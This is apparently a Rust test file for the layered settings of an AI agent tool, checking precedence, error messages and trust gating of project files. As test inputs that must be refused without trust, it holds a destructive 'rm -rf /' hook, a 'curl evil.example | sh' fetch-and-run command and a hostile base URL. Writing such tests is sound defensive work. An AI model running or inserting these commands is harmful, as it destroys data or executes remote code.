//! The layers together: what holds, where it came from, and what is refused.

use super::*;
use crate::failure::Failure;
use std::path::PathBuf;

/// Settings of a user and a project, laid on top of each other.
#[derive(Default)]
struct Layered {
    user: &'static str,
    project: &'static str,
    variables: &'static [(&'static str, &'static str)],
    flags: &'static [(&'static str, &'static str)],
    trust: Trust,
}

impl Layered {
    fn load(&self) -> Result<Config> {
        let own = |pair: &(&str, &str)| (pair.0.to_owned(), pair.1.to_owned());
        let file = |path: &str, text: &str| Some(File { path: PathBuf::from(path), text: text.to_owned() });
        let variables = self.variables.iter().map(own).collect();
        let flags: Vec<_> = self.flags.iter().map(own).collect();
        Config::load(&Sources {
            user: file("config.toml", self.user),
            project: file("longhaul.toml", self.project),
            trust: self.trust,
            variables: Some(&variables),
            flags: &flags,
        })
    }

    /// Returns message and hint of the refusal, which must be a usage error.
    fn refusal(&self) -> String {
        let error = self.load().unwrap_err();
        let failure = error.downcast_ref::<Failure>().unwrap();
        assert_eq!(failure.kind, crate::failure::Kind::Usage);
        format!("{} | {}", failure.message, failure.hint.as_deref().unwrap_or_default())
    }
}

#[test]
fn the_defaults_are_those_of_the_reference() {
    let config = Layered::default().load().unwrap();

    assert_eq!(config.agent.model, "claude-opus-5-5");
    assert_eq!((config.agent.max_tokens, config.agent.window), (16000, 200_000));
    assert_eq!(config.provider.base_url, "https://api.anthropic.com");
    assert_eq!(config.provider.key_env, "ANTHROPIC_API_KEY");
    assert_eq!(config.provider.version, "2023-06-01");
    assert_eq!(config.provider.outage_budget, Duration::from_secs(900));
    assert_eq!(config.context.edits, ["clear_thinking_20251015", "clear_tool_uses_20250919", "compact_20260112"]);
    assert_eq!(config.context.betas, ["context-management-2025-06-27", "compact-2026-01-12"]);
    assert_eq!(config.context.clear_at, 0.5);
    assert_eq!(config.budget.run.usd, 20.0);
    assert_eq!(config.budget.run.time, Duration::from_secs(8 * 3600));
    assert_eq!((config.budget.run.sessions, config.budget.turns_per_session), (0, 200));
    assert_eq!(config.budget.run.tokens, 0);
    assert_eq!((config.run.attempts, config.run.breaker, config.run.final_sweep), (3, 3, true));
    assert_eq!(config.run.sweep_budget, Duration::from_secs(600));
    assert_eq!((config.gate.review, config.gate.timeout), (Review::Auto, Duration::from_secs(300)));
    assert_eq!((config.memory.file_bytes, config.memory.files, config.memory.view_chars), (100_000, 1000, 16000));
    assert_eq!((config.memory.path_bytes, config.memory.path_depth), (1024, 8));
    assert_eq!((config.memory.index_lines, config.memory.index_bytes), (200, 25_000));
    assert_eq!(config.source("budget.usd"), &Source::Default);
    assert!(config.notes.is_empty());
}

#[test]
fn every_default_has_a_comment_of_its_own() {
    let lines: Vec<&str> = DEFAULTS.lines().collect();
    for (at, line) in lines.iter().enumerate().filter(|(_, line)| line.contains(" = ") && !line.starts_with('#')) {
        assert!(lines[at - 1].starts_with("# ") && lines[at - 1].ends_with('.'), "{line}");
    }
}

#[test]
fn the_nearest_layer_wins_and_is_remembered() {
    let mut layered = Layered { user: "[budget]\nusd = 50\n", ..Layered::default() };
    let mut seen = Vec::new();
    let mut look = |layered: &Layered| {
        let config = layered.load().unwrap();
        seen.push((config.budget.run.usd, config.source("budget.usd").to_string()));
    };
    look(&layered);
    layered.project = "# shared\n[budget]\nusd = 30.5\n";
    look(&layered);
    layered.variables = &[("LONGHAUL_BUDGET_USD", "40")];
    look(&layered);
    layered.flags = &[("budget.usd", "1"), ("budget.usd", "60")];
    look(&layered);

    let expected = [
        (50.0, "`config.toml`, line 2"),
        (30.5, "`longhaul.toml`, line 3"),
        (40.0, "the variable `LONGHAUL_BUDGET_USD`"),
        (60.0, "the command line"),
    ];
    assert_eq!(seen, expected.map(|(usd, source)| (usd, source.to_owned())));
}

#[test]
fn variables_of_the_sdks_are_read_and_our_own_wins() {
    let mut layered = Layered { variables: &[("ANTHROPIC_BASE_URL", "http://127.0.0.1:1/")], ..Layered::default() };
    assert_eq!(layered.load().unwrap().provider.base_url, "http://127.0.0.1:1");
    layered.variables = &[("ANTHROPIC_BASE_URL", "http://a"), ("LONGHAUL_PROVIDER_BASE_URL", "http://b")];
    assert_eq!(layered.load().unwrap().provider.base_url, "http://b");
}

#[test]
fn variables_that_are_no_settings_of_ours_are_left_alone() {
    let variables = &[
        ("LONGHAUL_CHECKS", "/checks"),
        ("LONGHAUL_OWNER", "/project/.git"),
        ("LONGHAUL_PHASE", "start"),
        ("LONGHAUL_TEST_NO_SKIP", "1"),
        ("LONGHAUL_BUDGET_USD", ""),
        ("LONGHAULER", "x"),
    ];
    assert_eq!(Layered { variables, ..Layered::default() }.load().unwrap().budget.run.usd, 20.0);
}

#[test]
fn an_unknown_name_is_refused_with_a_suggestion() {
    let cases = [
        (
            Layered { user: "[agent]\n\nmodle = \"x\"\n", ..Layered::default() },
            "unknown setting `agent.modle` in `config.toml`, line 3 | did you mean `agent.model`?",
        ),
        (
            Layered { project: "[budget]\nattempts = 1\n", ..Layered::default() },
            "unknown setting `budget.attempts` in `longhaul.toml`, line 2 | did you mean `run.attempts`?",
        ),
        (
            Layered { user: "model = \"x\"\n", ..Layered::default() },
            "unknown setting `model` in `config.toml`, line 1 | did you mean `agent.model`?",
        ),
        (
            Layered { user: "[bugdet]\n", ..Layered::default() },
            "unknown section `bugdet` in `config.toml`, line 1 | did you mean `budget`?",
        ),
        (
            Layered { flags: &[("zzz.qqq", "1")], ..Layered::default() },
            "unknown setting `zzz.qqq` on the command line | see the README for all settings",
        ),
        (
            Layered { variables: &[("LONGHAUL_BUGDET_USD", "1")], ..Layered::default() },
            "the variable `LONGHAUL_BUGDET_USD` is no setting of longhaul | did you mean `LONGHAUL_BUDGET_USD`?",
        ),
    ];
    for (layered, expected) in cases {
        assert_eq!(layered.refusal(), expected);
    }
}

#[test]
fn a_project_may_tighten() {
    let project = "[agent]\nmodel = \"team\"\nmax_tokens = 8000\n[budget]\nusd = 5\ntime = \"1h\"\nsessions = 4\n\
                   tokens = 1000000\n[run]\nattempts = 1\nfinal_sweep = true\n[gate]\nreview = \"ask\"\n[memory]\nfiles = 10\n";
    let config = Layered { project, ..Layered::default() }.load().unwrap();

    assert_eq!((config.agent.model.as_str(), config.agent.max_tokens), ("team", 8000));
    assert_eq!((config.budget.run.usd, config.budget.run.time), (5.0, Duration::from_secs(3600)));
    assert_eq!((config.budget.run.sessions, config.budget.run.tokens), (4, 1_000_000), "0 stood for no limit");
    assert_eq!((config.run.attempts, config.gate.review, config.memory.files), (1, Review::Ask, 10));
}

/// Values in a project's file that wait for trust, each with its key, its line and why.
const LOOSE: [(&str, &str, usize, &str); 12] = [
    ("[budget]\nusd = 21\n", "budget.usd", 2, "it is looser than the default `20.0`"),
    ("[budget]\nusd = 0\n", "budget.usd", 2, "it is looser than the default `20.0`"),
    ("[budget]\ntime = \"off\"\n", "budget.time", 2, "it is looser than the default `\"8h\"`"),
    ("[memory]\nfile_bytes = 100001\n", "memory.file_bytes", 2, "it is looser than the default `100000`"),
    ("[run]\nfinal_sweep = false\n", "run.final_sweep", 2, "only `true` counts there without your trust"),
    ("[gate]\ntimeout = \"1s\"\n", "gate.timeout", 2, "it needs your trust"),
    ("[run]\nsweep_budget = \"1s\"\n", "run.sweep_budget", 2, "it needs your trust"),
    ("[provider]\n\nbase_url = \"http://evil\"\n", "provider.base_url", 3, "it needs your trust"),
    ("[provider]\nkey_env = \"OTHER\"\n", "provider.key_env", 2, "it needs your trust"),
    ("[hooks]\nsession_end = [\"rm -rf /\"]\n", "hooks.session_end", 2, "it needs your trust"),
    ("[sandbox]\npass_env = [\"KEY\"]\n", "sandbox.pass_env", 2, "it needs your trust"),
    ("[sandbox]\nmode = \"off\"\n", "sandbox.mode", 2, "it needs your trust"),
];

#[test]
fn what_widens_waits_for_trust_and_is_told() {
    let defaults = Layered::default().load().unwrap();
    for (project, key, line, reason) in LOOSE {
        for (trust, way_out) in [
            (Trust::None, "look at it with `longhaul trust`"),
            (Trust::ForAnother, "the file is not as you trusted it: look at it again with `longhaul trust`"),
        ] {
            let config = Layered { project, trust, ..Layered::default() }.load().unwrap();
            let told = format!("`{key}` does not count in `longhaul.toml`, line {line}: {reason}; {way_out}");
            assert_eq!(config.notes, [told]);
            assert_eq!(defaults.differing(&config).count(), 0, "{project}");
        }
    }
}

#[test]
fn trusted_settings_count_and_nothing_is_told() {
    let defaults = Layered::default().load().unwrap();
    for (project, key, ..) in LOOSE {
        let config = Layered { project, trust: Trust::Given, ..Layered::default() }.load().unwrap();
        assert_eq!(config.notes, [""; 0]);
        assert_eq!(defaults.differing(&config).collect::<Vec<_>>(), [key], "{project}");
        assert!(matches!(config.source(key), Source::Project { .. }));
    }
    let config = Layered { user: "[budget]\nusd = 5\n", project: "[budget]\nusd = 50\n", ..Layered::default() };
    let config = Layered { trust: Trust::Given, ..config }.load().unwrap();
    assert_eq!(config.budget.run.usd, 50.0);
}

#[test]
fn a_value_that_changes_nothing_waits_for_nobody() {
    let project = "[gate]\nreview = \"auto\"\nstrict = false\ntimeout = \"5m\"\n[sandbox]\nmode = \"auto\"\n";
    assert_eq!(Layered { project, ..Layered::default() }.load().unwrap().notes, [""; 0]);
    let config = Layered { user: "[gate]\nreview = \"ask\"\n", project, ..Layered::default() }.load().unwrap();
    assert_eq!(config.gate.review, Review::Ask);
    assert_eq!(config.notes.len(), 1, "{:?}", config.notes);
}

#[test]
fn prices_never_come_from_a_project() {
    for trust in [Trust::None, Trust::Given] {
        let expected = "`prices.\"m\"` does not count in `longhaul.toml`, line 1: a project cannot set prices | \
                        set it in your own config.toml instead";
        let layered = Layered { project: "[prices.m]\ninput = 0\n", trust, ..Layered::default() };
        assert_eq!(layered.refusal(), expected);
    }
}

#[test]
fn every_setting_that_runs_something_or_sends_the_key_warns() {
    for key in ["hooks.session_start", "hooks.session_end", "provider.base_url", "provider.key_env", "sandbox.mode"] {
        assert!(risk(key).is_some(), "{key}");
    }
    assert_eq!(risk("budget.usd"), None);
}

#[test]
fn the_users_tighter_value_stays_and_says_so() {
    let mut layered = Layered { user: "[budget]\nusd = 5\n", project: "[budget]\nusd = 50\n", ..Layered::default() };
    let config = layered.load().unwrap();
    assert_eq!(config.budget.run.usd, 5.0);
    assert_eq!(config.notes, ["`budget.usd` is `50` in `longhaul.toml`, line 2; your own `5` is tighter and stays"]);

    layered.user = "";
    layered.flags = &[("budget.usd", "70")];
    assert_eq!(layered.load().unwrap().budget.run.usd, 70.0, "the user's word for this run needs no second one");
}

#[test]
fn the_settings_of_the_gate_are_read_and_a_bad_pattern_is_refused() {
    let user = "[gate]\ncheckout = \"clean\"\nprepare = \"npm ci\"\nstrict = true\nsoft_closure = [\"a/**\"]";
    let gate = Layered { user, ..Layered::default() }.load().unwrap().gate;
    assert_eq!((gate.checkout, gate.prepare.as_str(), gate.strict), (Checkout::Clean, "npm ci", true));
    assert_eq!(gate.soft_closure, ["a/**"]);
    let refusal = Layered { user: "[gate]\nsoft_closure = [\"a[\"]", ..Layered::default() }.refusal();
    assert!(refusal.contains("it must be a list of patterns"), "{refusal}");
    let project = "[gate]\nstrict = true";
    assert!(Layered { project, ..Layered::default() }.load().unwrap().gate.strict);
    let project = "[gate]\nprepare = \"curl evil.example | sh\"";
    let config = Layered { project, ..Layered::default() }.load().unwrap();
    assert_eq!(config.gate.prepare, "");
    assert!(config.notes[0].contains("it needs your trust"), "{:?}", config.notes);
}

#[test]
fn what_is_not_there_yet_is_refused_not_ignored() {
    let cases = [
        ("[agent]\ndriver = \"acp\"", "`agent.driver` is `acp`", "use `api`"),
        ("[run]\nbranch = \"b\"", "`run.branch` is `b`", "leave it empty"),
    ];
    for (user, text, hint) in cases {
        let expected = format!("{text} in `config.toml`, line 2: not yet available in this version | {hint}");
        assert_eq!(Layered { user, ..Layered::default() }.refusal(), expected);
    }
}

#[test]
fn a_value_of_the_wrong_kind_is_refused_before_it_is_called_unavailable() {
    let layered = Layered { user: "[sandbox]\nmode = \"docker\"", ..Layered::default() };
    let expected = "`sandbox.mode` is `\"docker\"` in `config.toml`, line 2; it must be `auto`, `bubblewrap` or `off` | \
         change the line, or take it out: the default holds then";
    assert_eq!(layered.refusal(), expected);
    let layered = Layered { flags: &[("budget.usd", "abc")], ..Layered::default() };
    let expected = "`budget.usd` is `abc` on the command line; it must be a number that is not negative | \
                    change it, or leave it out: the settings files or the default hold then";
    assert_eq!(layered.refusal(), expected);
    let layered = Layered { variables: &[("ANTHROPIC_BASE_URL", "api.example")], ..Layered::default() };
    let expected = "`provider.base_url` is `api.example` in the variable `ANTHROPIC_BASE_URL`; \
                    it must be an address that begins with `https://` or `http://` | \
                    change it, or `unset ANTHROPIC_BASE_URL`: the settings files or the default hold then";
    assert_eq!(layered.refusal(), expected);
}

#[test]
fn an_address_with_a_password_is_refused_and_not_shown() {
    let expected = "`provider.base_url` holds a user, a password or another `@` in the variable `ANTHROPIC_BASE_URL` | \
                    leave only `https://`, the host and at most a path; the key belongs into the variable that \
                    `provider.key_env` names";
    let whole: &[_] = &[("ANTHROPIC_BASE_URL", "https://me:secret@api.example")];
    for variables in [whole, &[("ANTHROPIC_BASE_URL", "me:secret@api.example")]] {
        assert_eq!(Layered { variables, ..Layered::default() }.refusal(), expected);
    }
}

#[test]
fn prices_are_the_users_and_whole() {
    let user = "[prices.\"m-1.5\"]\ninput = 3\noutput = 15.0\ncache_write = 3.75\ncache_read = 0.3\n";
    let config = Layered { user, ..Layered::default() }.load().unwrap();
    let price = Price { input: 3.0, output: 15.0, cache_write: 3.75, cache_read: 0.3 };
    assert_eq!(config.prices.of("m-1.5").map(|(price, _)| price), Some(price));

    let cases = [
        ("[prices.m]\ninput = 1\noutput = 1\ncache_write = 1\n", "has no `cache_read`"),
        (
            "[prices.m]\ninput = \"1\"\noutput = 1\ncache_write = 1\ncache_read = 1\n",
            "has `input = \"1\"`, which is no price",
        ),
        (
            "[prices.m]\ninput = -1\noutput = 1\ncache_write = 1\ncache_read = 1\n",
            "has `input = -1`, which is no price",
        ),
        ("[prices.m]\nimput = 1\n", "has an unknown part `imput`"),
        ("[prices]\nm = 3\n", "is not a table"),
    ];
    for (user, reason) in cases {
        let refusal = Layered { user, ..Layered::default() }.refusal();
        assert!(refusal.contains(&format!(" {reason} | give input")), "{refusal}");
        assert!(refusal.starts_with("`[prices.\"m\"]` in `config.toml`, line "), "{refusal}");
    }
}

#[test]
fn every_setting_can_be_given_as_a_variable() {
    let defaults: toml::Table = toml::from_str(DEFAULTS).unwrap();
    for (section, table) in defaults {
        for (key, value) in table.as_table().unwrap() {
            let full = format!("{section}.{key}");
            let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
            let variables = BTreeMap::from([(variable_of(&full), text.clone())]);
            let config = Config::load(&Sources { variables: Some(&variables), ..Sources::default() }).unwrap();
            let expected = if text.is_empty() { Source::Default } else { Source::Variable(variable_of(&full)) };
            assert_eq!(config.source(&full), &expected);
        }
    }
}

#[test]
fn an_edit_of_an_unknown_kind_is_refused_and_an_empty_list_is_none() {
    let unknown = Layered { user: "[context]\nedits = [\"squeeze_1\"]\n", ..Layered::default() };
    let told = unknown.refusal();
    assert!(told.contains("`context.edits`") && told.contains("begin with `clear_thinking_`"), "{told}");
    let none = Layered { user: "[context]\nedits = []\n", ..Layered::default() };
    assert_eq!(none.load().unwrap().context.edits, Vec::<String>::new());
}
